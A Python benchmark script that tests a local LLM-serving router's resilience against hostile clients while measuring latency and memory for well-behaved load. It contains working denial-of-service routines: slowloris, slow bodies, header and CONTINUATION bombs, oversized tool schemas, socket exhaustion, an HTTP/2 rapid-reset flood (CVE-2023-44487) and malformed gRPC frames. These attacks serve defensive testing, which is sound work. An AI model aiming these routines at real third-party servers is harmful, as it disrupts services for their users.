#!/usr/bin/env python3
"""What clients who mean harm do to the others of a router; usually by way of bench/router-hostile.

    bench/hostile.py --baton target/release/baton --tool target/release/examples/front_door [--only ATTACK,… | --streams 10000]

The router has one core. Workers that compute nothing, the attackers and a steady load of good clients share another, so part of what the good
clients lose is lost there; "other core" says how busy it is. Each attack runs as long as one load, after a load without it.
"""

import argparse
import asyncio
import collections
import fcntl
import json
import math
import os
import pathlib
import re
import resource
import socket
import statistics
import struct
import subprocess
import sys
import termios
import threading
import time
import urllib.request

sys.path.insert(0, str(pathlib.Path(__file__).parent))
from compare import print_table, wait_until_idle
from front_door import OTHER_CORE, ROUTER_CORE, Process, answers, core_times, free_port

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\x04\x00" + bytes(4)


class Router:
    """A router with fake workers."""

    def __init__(self, options, pace, *settings):
        self.options, self.pace = options, pace
        self.http, self.grpc, self.internal, self.admin = (free_port() for _ in range(4))
        at = lambda port: f"127.0.0.1:{port}"
        command = [options.baton, "router", "--model", "random:tiny", "--http", at(self.http), "--grpc", at(self.grpc), "--internal", at(self.internal),
                   "--admin", at(self.admin), "--log", "error", *settings]
        self.router = Process(ROUTER_CORE, command)

    def __enter__(self):
        self.router.__enter__()
        answers(f"http://127.0.0.1:{self.http}/health")
        model = json.loads(answers(f"http://127.0.0.1:{self.admin}/cluster"))["model"]
        command = [self.options.tool, "workers", "--registry", f"http://127.0.0.1:{self.internal}", "--model", model, *self.pace]
        self.workers = Process(OTHER_CORE, command).__enter__()
        self.workers.says("registered")
        answers(f"http://127.0.0.1:{self.http}/ready")
        self.model = json.loads(answers(f"http://127.0.0.1:{self.http}/v1/models"))["data"][0]["id"]
        return self

    def __exit__(self, *ended):
        self.workers.__exit__(*ended)
        self.router.__exit__(*ended)

    def start_load(self, rate, seconds, tokens):
        url = f"http://127.0.0.1:{self.http}"
        command = ["taskset", "-c", OTHER_CORE, self.options.tool, "load", "--url", url, "--model", self.model, "--prompt", "100"]
        command += ["--rate", str(rate), "--seconds", str(seconds), "--tokens", str(tokens)]
        return subprocess.Popen(command, stdout=subprocess.PIPE, text=True)

    def load(self, rate, seconds, tokens):
        return json.loads(self.start_load(rate, seconds, tokens).communicate()[0])

    def memory(self):
        """Resident bytes of the router."""
        status = pathlib.Path(f"/proc/{self.router.process.pid}/status").read_text()
        return int(re.search(r"VmRSS:\s+(\d+)", status)[1]) * 1024

    def running(self):
        """Answers in progress, as the router's own metrics say."""
        with urllib.request.urlopen(f"http://127.0.0.1:{self.admin}/metrics", timeout=30) as page:
            text = page.read().decode()
        return sum(int(float(n)) for n in re.findall(r"^baton_requests_in_flight(?:\{[^}]*\})? (\S+)$", text, re.M))


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(path="/baton.v1.Inference/Generate"):
    """The head of a gRPC call: literals that no table keeps."""
    pairs = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "content-type": "application/grpc", "te": "trailers"}
    text = lambda word: bytes([len(word)]) + word.encode()
    return b"".join(b"\x00" + text(name) + text(value) for name, value in pairs.items())


async def connect(port):
    return await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 60)


async def until_closed(reader, patience):
    """Reads until the other side closes; the first bytes, and whether it did in time."""
    got, ended = b"", False
    try:
        async with asyncio.timeout(patience):
            while part := await reader.read(1 << 16):
                got = (got + part)[:4096]
            ended = True
    except TimeoutError:
        pass
    except OSError:
        ended = True
    return got, ended


async def many(count, attack):
    """Runs an attack on so many connections at once; says how they ended."""
    ends = collections.Counter()
    async def one(number):
        try:
            ends[await attack(number)] += 1
        except (OSError, TimeoutError) as error:
            ends[type(error).__name__] += 1
    await asyncio.gather(*(one(number) for number in range(count)))
    return ", ".join(f"{count} {end}" for end, count in ends.most_common())


def first_line(got):
    return got.split(b"\r\n")[0].decode(errors="replace") if got.startswith(b"HTTP/1.1") else "closed"


async def slowloris(router, seconds):
    """256 connections that send the head of a request a byte a second."""
    async def attack(_):
        reader, writer = await connect(router.http)
        closed = asyncio.create_task(until_closed(reader, seconds))
        writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nx: ")
        for _ in range(int(seconds)):
            if closed.done():
                return "closed"
            writer.write(b"a")
            await asyncio.sleep(1)
        closed.cancel()
        return "open at the end"
    return await many(256, attack)


async def slow_bodies(router, seconds):
    """256 connections that announce a body of 8 MB and send 100 bytes a second."""
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 8000000\r\n\r\n{"
    async def attack(_):
        reader, writer = await connect(router.http)
        closed = asyncio.create_task(until_closed(reader, seconds))
        writer.write(head)
        for _ in range(int(seconds)):
            if closed.done():
                return first_line(closed.result()[0])
            writer.write(b" " * 100)
            await asyncio.sleep(1)
        closed.cancel()
        return "open at the end"
    return await many(256, attack)


async def header_bombs(router, seconds):
    """Heads of 1 MB on 8 HTTP connections, of 4 MB in continuations on 8 gRPC connections, again and again."""
    http = b"GET / HTTP/1.1\r\nhost: x\r\n" + b"".join(b"x%d: %s\r\n" % (n, b"a" * 100) for n in range(10_000)) + b"\r\n"
    fields = b"".join(b"\x00\x04" + b"x%03d" % n + b"\x7f\x81\x01" + b"a" * 256 for n in range(61))
    grpc = PREFACE + frame(1, 0, 1, headers()) + frame(9, 0, 1, fields) * 256
    until = time.monotonic() + seconds
    async def attack(number):
        port, bomb, ends = (router.grpc, grpc, set()) if number % 2 else (router.http, http, set())
        while time.monotonic() < until:
            reader, writer = await connect(port)
            writer.write(bomb)
            got, ended = await until_closed(reader, 5)
            ends.add(first_line(got) if ended else "open")
            writer.close()
        return f"{'gRPC' if number % 2 else 'HTTP'}: {' or '.join(sorted(ends))}"
    return await many(16, attack)


async def large_calls(router, seconds):
    """Chats with a tool whose schema has 8 MB, on 8 connections, again and again."""
    properties = {f"field{n}": {"type": "string"} for n in range(230_000)}
    tool = {"type": "function", "function": {"name": "f", "parameters": {"type": "object", "properties": properties}}}
    body = json.dumps({"model": router.model, "messages": [{"role": "user", "content": "hello"}], "max_tokens": 64, "stream": True, "tools": [tool]})
    body = body.encode().ljust(8 << 20)
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(body)
    until, total = time.monotonic() + seconds, collections.Counter()
    async def attack(_):
        ends = set()
        while time.monotonic() < until:
            reader, writer = await connect(router.http)
            writer.write(head + body)
            got, _ = await until_closed(reader, 60)
            ends.add(first_line(got))
            total["sent"] += 1
            writer.close()
        return " or ".join(sorted(ends))
    return f"{await many(8, attack)}; {total['sent'] / seconds:.1f} a second"


async def silent(router, seconds):
    """4,096 connections that send nothing to each of the four ports."""
    ports = {"HTTP": router.http, "gRPC": router.grpc, "internal": router.internal, "admin": router.admin}
    names = list(ports)
    async def attack(number):
        name = names[number % 4]
        reader, _ = await connect(ports[name])
        _, closed = await until_closed(reader, seconds)
        return f"{name} {'closed' if closed else 'open at the end'}"
    return await many(4 * 4096, attack)


async def resets(router, seconds):
    """16 gRPC connections that open calls and reset them at once (CVE-2023-44487)."""
    until, total = time.monotonic() + seconds, collections.Counter()
    async def attack(_):
        while time.monotonic() < until:
            reader, writer = await connect(router.grpc)
            total["connections"] += 1
            writer.write(PREFACE)
            closed, stream = asyncio.create_task(until_closed(reader, seconds)), 1
            while time.monotonic() < until and not closed.done():
                batch = b"".join(frame(1, 4, s, headers()) + frame(3, 0, s, struct.pack(">I", 8)) for s in range(stream, stream + 200, 2))
                stream, total["resets"] = stream + 200, total["resets"] + 100
                writer.write(batch)
                try:
                    await asyncio.wait_for(writer.drain(), 5)
                except (OSError, TimeoutError):
                    break
                await asyncio.sleep(0)
            closed.cancel()
            writer.close()
        return "to the end"
    await many(16, attack)
    return f"{total['resets'] / seconds:,.0f} resets a second; closed {total['connections'] - 16} connections"


async def malformed(router, seconds):
    """16 clients that send to gRPC what is no frame, no message, a wrong length, what is compressed, of no call, of no service, HTTP/1.1."""
    message = lambda payload, compressed=0: bytes([compressed]) + struct.pack(">I", len(payload)) + payload
    call = PREFACE + frame(1, 4, 1, headers())
    cases = [PREFACE + b"\xff" * 64, call + frame(0, 1, 1, message(b"\xff" * 4)), call + frame(0, 1, 1, b"\x00\xff\xff\xff\xff"),
             call + frame(0, 1, 1, message(bytes(9), compressed=1)), PREFACE + frame(0, 1, 77, b"abc"),
             PREFACE + frame(1, 4, 1, headers("/no.such/Call")), PREFACE + frame(1, 4, 2, headers()), b"GET / HTTP/1.1\r\n\r\n" * 4]
    until, total = time.monotonic() + seconds, collections.Counter()
    async def attack(_):
        while time.monotonic() < until:
            for case in cases:
                reader, writer = await connect(router.grpc)
                writer.write(case)
                await until_closed(reader, 0.05)
                writer.close()
                total["sent"] += 1
        return "to the end"
    await many(16, attack)
    return f"{total['sent'] / seconds:,.0f} connections a second"


ATTACKS = {"slowloris": slowloris, "slow bodies": slow_bodies, "header bombs": header_bombs, "tools of 8 MB": large_calls,
           "silent sockets": silent, "rapid resets": resets, "malformed gRPC": malformed}


def percentiles(result):
    at = lambda what, share: f"{result[what][share] or 0:.0f}"
    return f"{at('first_ms', 'p50')} / {at('first_ms', 'p99')}", f"{at('last_ms', 'p99')}"


async def attacked(router, attack, options):
    """Attacks; the good clients come a second later. What came of it, their load, and the most memory that the router had."""
    task = asyncio.create_task(attack(router, options.seconds + 1) if attack else asyncio.sleep(options.seconds + 1, ""))
    await asyncio.sleep(1)
    load, peak = router.start_load(options.rate, options.seconds, 64), 0
    while not task.done():
        peak = max(peak, router.memory())
        await asyncio.sleep(0.1)
    return task.result(), load, peak


def attacks(options):
    """Each attack beside a load of good clients; a row each."""
    rows = []
    pace = ["--first-ms", "20", "--step-ms", "10", "--burst", "4"]
    for name in options.only or ["none", *ATTACKS]:
        with Router(options, pace) as router:
            router.load(50, 1, 64)
            wait_until_idle(0.15, 60)
            before, other = router.memory(), core_times(OTHER_CORE)
            answer, load, peak = asyncio.run(attacked(router, ATTACKS.get(name), options))
            result = json.loads(load.communicate()[0])
            busy, everything = (after - since for after, since in zip(core_times(OTHER_CORE), other))
            time.sleep(2)
            row = [name, answer, f"{result['requests'] - result['failed']} / {result['failed']}", *percentiles(result)]
            rows.append([*row, f"{before / 1e6:.0f} / {peak / 1e6:.0f}", str(router.running()), f"{busy / everything:.0%}"])
            print(rows[-1], result["error"] or "", file=sys.stderr, flush=True)
    print_table(["attack", "what came of it", "good clients: right / failed", "first token p50 / p99, ms", "end p99", "memory before / at most, MB",
                 "running after", "other core"], rows)


async def stop_reading(router, count, tokens):
    """Opens streams and reads nothing of them."""
    body = json.dumps({"model": router.model, "prompt": [100] * 20, "max_tokens": tokens, "stream": True, "ignore_eos": True}).encode()
    request = b"POST /v1/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n" % len(body) + body
    sockets = []
    for _ in range(count):
        stalled = socket.socket()
        # Little room in the system's buffers, as between machines: loopback's segments of 64 KB would get megabytes.
        stalled.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        stalled.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
        stalled.connect(("127.0.0.1", router.http))
        stalled.sendall(request)
        sockets.append(stalled)
        await asyncio.sleep(0.002)
    return sockets


class Watch:
    """Looks every second at what sockets that are not read hold, and at how many answers are in progress."""

    def __init__(self, router, sockets):
        self.router, self.sockets = router, sockets
        # Of each socket the bytes it holds, and since when.
        self.held, self.seen, self.over = [(-1, 0.0)] * len(sockets), [(time.monotonic(), router.running())], threading.Event()
        self.thread = threading.Thread(target=self.look, daemon=True)
        self.thread.start()

    def look(self):
        while not self.over.wait(1):
            now = time.monotonic()
            for number, each in enumerate(self.sockets):
                count = struct.unpack("i", fcntl.ioctl(each, termios.FIONREAD, bytes(4)))[0]
                if count != self.held[number][0]:
                    self.held[number] = (count, now)
            self.seen.append((now, self.router.running()))

    def running(self):
        return self.seen[-1][1]

    def end(self, most):
        """Seconds from when the nth socket was full to when the nth place was back, for each n."""
        self.over.set()
        self.thread.join()
        full = sorted(since for _, since in self.held)
        back = (next((when for when, running in self.seen if running < most - number), math.inf) for number in range(len(full)))
        return [then - since for since, then in zip(full, back)]


def streams(options):
    """Many streams at once, a tenth of which stop reading."""
    stalled = options.streams // 10
    reading = options.streams - stalled
    settings = ["--max-inflight", str(2 * options.streams), "--max-connections", str(2 * options.streams), "--send-timeout", "10s", "--request-timeout", "1h"]
    # Tokens of a stream come 16 together, every 2 seconds.
    with Router(options, ["--first-ms", "20", "--step-ms", "125", "--burst", "16"], *settings) as router:
        router.load(50, 1, 1)
        before = router.memory()
        tokens = 16 * 120
        load = router.start_load(reading / 40, 40, tokens)
        time.sleep(45)
        held, memory = router.running(), router.memory()
        print(f"{held} streams, {(memory - before) / max(held, 1) / 1024:.1f} KiB of the router's memory each", flush=True)
        alone = [router.load(10, 5, 1)["first_ms"]["p99"] for _ in range(8)]
        sockets = asyncio.run(stop_reading(router, stalled, 60_000))
        most, begun, beside, watch = router.running(), time.monotonic(), [], Watch(router, sockets)
        while watch.running() > most - stalled and time.monotonic() - begun < 240:
            beside.append(router.load(10, 5, 1)["first_ms"]["p99"])
        print(f"{most} streams, {stalled} of which are not read: back to {watch.running()} after {time.monotonic() - begun:.0f} s")
        late = watch.end(most)
        print(f"a place came back {statistics.median(late):.0f} s (median) and at most {max(late):.0f} s after a client's system had taken its last byte")
        for when, told in ("meanwhile", beside), ("before", alone):
            print(f"first token of new requests {when}, p99 of a load of 5 s: {statistics.median(told):.0f} ms (median of {len(told)} loads), "
                  f"{max(told):.0f} ms (worst)")
        print(f"memory: {router.memory() / 1e6:.0f} MB")
        result = json.loads(load.communicate()[0])
        print(f"of {result['requests']} streams that were read {result['failed']} failed; every one of {tokens} tokens came in the others")
        pause = result["pause_ms"]
        print(f"their longest pauses, where the workers' are 2,000 ms: p50 {pause['p50']:,.0f} ms, p99 {pause['p99']:,.0f} ms")
        del sockets


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--baton", required=True, help="the program to measure")
    parser.add_argument("--tool", required=True, help="the built example front_door")
    parser.add_argument("--only", type=lambda words: words.split(","), help=f"some of: none, {', '.join(ATTACKS)}; with commas")
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--rate", type=float, default=50, help="requests of good clients a second")
    parser.add_argument("--streams", type=int, help="instead: so many streams at once, a tenth of which stop reading")
    options = parser.parse_args()
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    os.sched_setaffinity(0, {int(OTHER_CORE)})
    streams(options) if options.streams else attacks(options)


if __name__ == "__main__":
    main()
